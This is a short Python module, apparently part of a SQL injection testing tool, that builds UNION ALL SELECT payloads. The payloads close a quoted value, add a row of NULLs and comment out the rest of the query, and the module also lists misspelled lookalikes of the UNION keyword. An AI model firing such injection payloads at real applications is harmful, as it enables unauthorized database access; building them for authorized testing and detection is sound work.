"""Payloads of `sqli` that add a row: for queries whose result is empty, and whose errors are hidden.

A row is only ever added to what is read. Behind a condition of a DELETE or an UPDATE, and among the values of an INSERT, UNION
does not parse, so that nothing happens there. So no bracket is closed: behind `VALUES ('…')` it does parse, and stores the row.
"""

# What ends the place of a text, and of a number.
END_OF_TEXT, END_OF_NUMBER = "'", ""
# As many columns as a list that people look at has; an ORM's have more, and show their errors.
MOST_COLUMNS = 6
WORD = "UNION"
LOOKALIKES = ("UNOIN", "UNIOM", "UNLON", "UNEON")
# NULL is of every type. The table of one row has a name, which most engines want, and a comment hides what follows.
_ROW = "{value}{end} {word} ALL SELECT {nulls} FROM (SELECT 1 AS {mark}) {mark} WHERE {left}={right} -- {mark}"


def row(value: str, end: str, columns: int, mark: str, word: str = WORD, *, left: int, right: int) -> str:
    """The value, its end, and a row of NULLs where the numbers are equal."""
    nulls = ",".join(["NULL"] * columns)
    return _ROW.format(value=value, end=end, word=word, nulls=nulls, mark=mark, left=left, right=right)
